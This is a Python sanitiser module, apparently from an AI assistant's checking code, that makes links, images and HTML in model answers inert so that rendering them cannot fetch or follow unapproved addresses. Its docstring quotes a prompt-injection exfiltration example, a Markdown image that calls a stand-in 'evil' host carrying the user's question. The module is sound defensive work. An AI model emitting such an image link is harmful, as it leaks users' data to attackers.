"""Links, images and HTML in an answer -> text that nothing can follow, load or run (pure).

A document can make a model write `![](http://evil/?q=...)`, and whoever shows the answer as Markdown then sends the
question to a stranger. What a person reads stays: the link's words, then its address as code. Active stays only an
address that is allowed, and that as `<address>`, which has one reading.

Nothing here relies on one reader's rules: what could begin a tag, a link or a definition is broken even where it never
ends (`active_text.py`), and code is left alone only where all readers agree that it is code (`code_spans.py`).
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterator

from assistant.checking.active_text import ACTIVE, ENTITY, TRAILING, address_key, decoded, is_address, is_host
from assistant.checking.code_spans import LOOKALIKE, Fences, fences_after, is_fence, split_code
from assistant.control_tokens import INVISIBLE
from assistant.events import Citation

# ZWJ, ZWNJ and variation selectors shape emoji and some scripts; beside an ASCII character they only hide something.
_SHAPING = "\u200c\u200d\ufe0e\ufe0f"
_HIDDEN = "".join(sorted(set(INVISIBLE) - set(_SHAPING)))
_DROPPED = re.compile(
    rf"[\x00-\x08\x0e-\x1f\x7f-\x84\x86-\x9f{_HIDDEN}\ufff9-\ufffb\ufffe\uffff]"
    rf"|(?<![^\x00-\x7f])[{_SHAPING}]|[{_SHAPING}](?=[\x21-\x7e])"
    # Tags spell a flag after a black flag; anywhere else they hide a text.
    r"|(?<![\U0001f3f4\U000e0020-\U000e007e])[\U000e0000-\U000e0fff]+"
)
_LINE_END = re.compile(r"\r\n?|[\x0b\x0c\x85\u2028\u2029]")
_SPACE = re.compile(r"\s")
_NUMBERS = re.compile(r"[\s\d,，、]*")
# What may stand in front of a definition, `[label]: address`: marks of quotes and lists.
_DEFINITION = re.compile(r"[\s>*+\-\d.)]*\[")
# Where some readers cut before they look for code: a table's cells at bars, words struck out or marked.
_CUTTING = re.compile(r"\||~~|==|\^\^")
_STRUCTURE = re.compile(r"<(?=[A-Za-z/!?])|\](?=[(:])")
_JOINTS = re.compile(r"[:/.@]+")
_LOOKING_AHEAD = frozenset({"tag", "at", "command", "bracket"})
_SAID_BY_ITSELF = frozenset({"author", "date"})
# A line of nothing else holds nothing active, and nothing that could become active with what follows it.
_PLAIN = re.compile(
    r"(?:[\u3400-\u4dbf\u4e00-\u9fffA-Za-z0-9 \n，。、；：！？（）《》“”…—%+,;!?()*#-]|\[\d{1,3}\](?![(:]))*"
)
_MAX_PASSES = 8
_TAIL_CHARS = 512
"""Characters before a seam that something active across it is looked for in; all of one would be active before."""


def defuse(text: str, allowed: Collection[str] = (), *, before: str = "") -> str:
    """Return the text with nothing in it that a reader of Markdown or HTML would follow, load or run.

    Twice is the same as once. `before + defuse(text, before=before)` is as inert as `before`, wherever the cut lies.

    Args:
        text: A whole answer, or the next piece of one.
        allowed: Addresses that stay active: http, https or mailto; compared whole, after normalisation.
        before: All that is shown in front of the text, defused.
    """
    if _is_plain(text, before):
        return text
    allowed_by_key = {key: address.strip() for address in allowed if (key := address_key(address)) is not None}
    earlier, _, opened = before.rpartition("\n")
    fences = fences_after(earlier)
    above = earlier.rpartition("\n")[2]
    shown: list[str] = []
    for line in _LINE_END.sub("\n", text).split("\n"):
        plain = _DROPPED.sub("", line)
        if fences.is_code and not opened and not fences.after(plain).is_sure:
            # Some readers would end the code here, some take it for text from its beginning, for want of an end.
            shown.append(fences.opened)
            above, fences = fences.opened, Fences()
        if fences.is_code:
            plain = _fenced(opened, plain, fences)
        else:
            if above.strip() and not opened and is_fence(plain, after_blank=True) > is_fence(plain, after_blank=False):
                # Behind a blank line a deep fence is a fence, or code; without it some paragraph may go on.
                shown.append("")
                above = ""
            plain = _Line(opened, fences, allowed_by_key, after_blank=not above.strip()).defused(plain)
        shown.append(plain)
        above, opened = opened + plain, ""
        fences = fences.after(above)
    return "\n".join(shown)


def _is_plain(text: str, before: str) -> bool:
    """Whether a text, with the line that it goes on with, is words alone, and no code begins before it."""
    line = before[before.rfind("\n") + 1 :] + text
    return _PLAIN.fullmatch(line) is not None and "`" not in before and "~" not in before


def addresses(*citations: Citation) -> list[str]:
    """Return the addresses in the metadata of what is cited: the only ones that may stay active.

    What a document says of itself, its author, is the document's text and no metadata that somebody gave it.
    """
    known = (one.source.chunk.metadata for one in citations)
    found = (value.strip() for metadata in known for key, value in metadata.items() if key not in _SAID_BY_ITSELF)
    return [value for value in found if address_key(value) is not None]


def _fenced(opened: str, line: str, fences: Fences) -> str:
    """Return the rest of a line of fenced code; the fence's end is written as its beginning, for all readers."""
    if not fences.closes_with(opened + line):
        return line
    return line.strip("`~") if opened else fences.opened


class _Line:
    """A line outside of fenced code.

    Args:
        opened: What is shown of it already.
        fences: Where the text stands before it.
        allowed: Addresses by their normal form.
        after_blank: No paragraph goes on in it.
    """

    def __init__(self, opened: str, fences: Fences, allowed: dict[str, str], *, after_blank: bool) -> None:
        self._opened = opened
        self._after_blank = after_blank
        self._allowed = allowed
        self._is_unsure = not fences.is_sure
        parts = split_code(opened)
        # Behind a backtick without its end, or code that a table may cut, no reader's code is sure.
        is_whole = "".join(text for text, _ in parts) == opened
        self._can_quote = is_whole and not any(is_code and _CUTTING.search(text) for text, is_code in parts)

    def defused(self, line: str) -> str:
        """Return the rest of the line, inert.

        What stands for one thing can make another of its neighbour, so this goes on until nothing changes.
        """
        line = self._apart(line)
        for _ in range(_MAX_PASSES):
            before, line = line, self._pass(line)
            if line == before:
                break
        return line

    def _pass(self, line: str) -> str:
        shown = self._opened
        for text, is_code in self._parts(line):
            shown = _joined(shown, self._code(text) if is_code else self._inert(decoded(text), shown))
        return shown[len(self._opened) :]

    def _code(self, code: str) -> str:
        """Return code; behind a fence that some readers take for backticks, they may read it as text."""
        return _STRUCTURE.sub(r"\g<0> ", code) if self._is_unsure else code

    def _parts(self, line: str) -> list[tuple[str, bool]]:
        """Return the line's text and code, where code is what may stay as it is."""
        without_code = line.replace("`", LOOKALIKE)
        is_inert = self._inert(decoded(without_code), self._opened) == without_code
        if is_fence(self._opened + line, after_blank=self._after_blank):
            return [(line, True)] if is_inert else [(without_code.replace("~~~", "～～～"), False)]
        parts = split_code(line, before=self._opened, in_formula=self._is_unsure)
        is_cut = not is_inert and any(is_code and _CUTTING.search(text) for text, is_code in parts)
        return parts if self._can_quote and not is_cut else [(without_code, False)]

    def _apart(self, line: str) -> str:
        """Return the line with a space in front of it where something active would reach across the seam."""
        if not line or not self._opened or line[0].isspace() or self._opened[-1].isspace():
            return line
        tail = _SPACE.split(self._opened[-_TAIL_CHARS:])[-1]
        crosses = any(entity.start() < len(tail) < entity.end() for entity in ENTITY.finditer(tail + line)) or any(
            match.start() < len(tail) and (match.end() > len(tail) or match.lastgroup in _LOOKING_AHEAD)
            for match, _, _ in self._active(tail + decoded(line))
        )
        return " " + line if crosses or line[0] == "@" or (tail[-1] == "]" and line[0] in "(:") else line

    def _inert(self, text: str, shown: str = "") -> str:
        """Return the text, which holds no code, inert; `shown` is what stands before it on its line."""
        start, position = len(shown), 0
        for match, replacement, length in self._active(text):
            shown = _joined(shown, text[position : match.start()])
            if replacement == "]" and _may_define(shown):
                replacement = "] "
            shown = _joined(shown, replacement)
            position = match.start() + length
        return _joined(shown, text[position:])[start:]

    def _active(self, text: str) -> Iterator[tuple[re.Match[str], str, int]]:
        """Yield what is active in the text, what stands for it, and for how many of its characters."""
        position = 0
        while (match := ACTIVE.search(text, position)) is not None:
            found = self._replacement(match)
            if found is not None:
                yield match, *found
            position = match.start() + (found[1] if found else 1)

    def _replacement(self, match: re.Match[str]) -> tuple[str, int] | None:
        """Return what stands for a match and for how many of its characters; None if it is as inert as it looks."""
        whole, kind = match[0], match.lastgroup
        if match["to"] is not None:
            return self._link(match)
        if kind == "auto":
            return self._address(match["auto"]), len(whole)
        if kind in _LOOKING_AHEAD:
            return {
                "tag": "< ",
                "at": "@ ",
                "command": "",
                "bracket": "]" if match.string[match.end()] == ":" else "] ",
            }[kind], 1
        if kind in ("host", "host_path", "wide", "wide_path"):
            name = match["host"] or match["wide"]
            path = match["host_path"] or match["wide_path"] or ""
            # A sign before the dot is part of longer names to some readers: `www.|.md`.
            if not is_host(name.removesuffix(path), has_path=bool(path) or not name[0].isalnum()):
                return None
            if match["wide"]:
                return name[0] + " ", 1
        address = _without_end(whole)
        return self._address(address), len(address)

    def _link(self, match: re.Match[str]) -> tuple[str, int]:
        words, to, title = match["words"], match["to"], match["title"] or ""
        if not is_address(to) or (_NUMBERS.fullmatch(words) and not match["image"]):
            # A remark behind a number or a bracket: the words stay, and the rest is read as text.
            return f"{match['image']}[{self._inert(words)}] ", match.end("words") + 1 - match.start()
        address = self._address(to.removeprefix("<").removesuffix(">"))
        return f"{self._inert(words)}（{address}{self._inert(title)}）", len(match[0])

    def _address(self, address: str) -> str:
        key = address_key(address if ":" in address else f"mailto:{address}")
        if key in self._allowed:
            return f"<{self._allowed[key]}>"
        return f"`{address}`" if self._can_quote and not _CUTTING.search(address) else _JOINTS.sub(r"\g<0> ", address)


def _without_end(address: str) -> str:
    """Return an address without what ends the sentence around it."""
    while address[-1] in TRAILING and not (address[-1] == ")" and address.count("(") >= address.count(")")):
        address = address[:-1]
    return address


def _may_define(line: str) -> bool:
    """Whether a bracket at the end of the line may close the label of a definition."""
    return "[" not in line or _DEFINITION.match(line) is not None


def _joined(shown: str, text: str) -> str:
    """Return both in one; a backtick touches neither another nor a backslash."""
    return f"{shown} {text}" if text.startswith("`") and shown.endswith(("`", "\\")) else shown + text
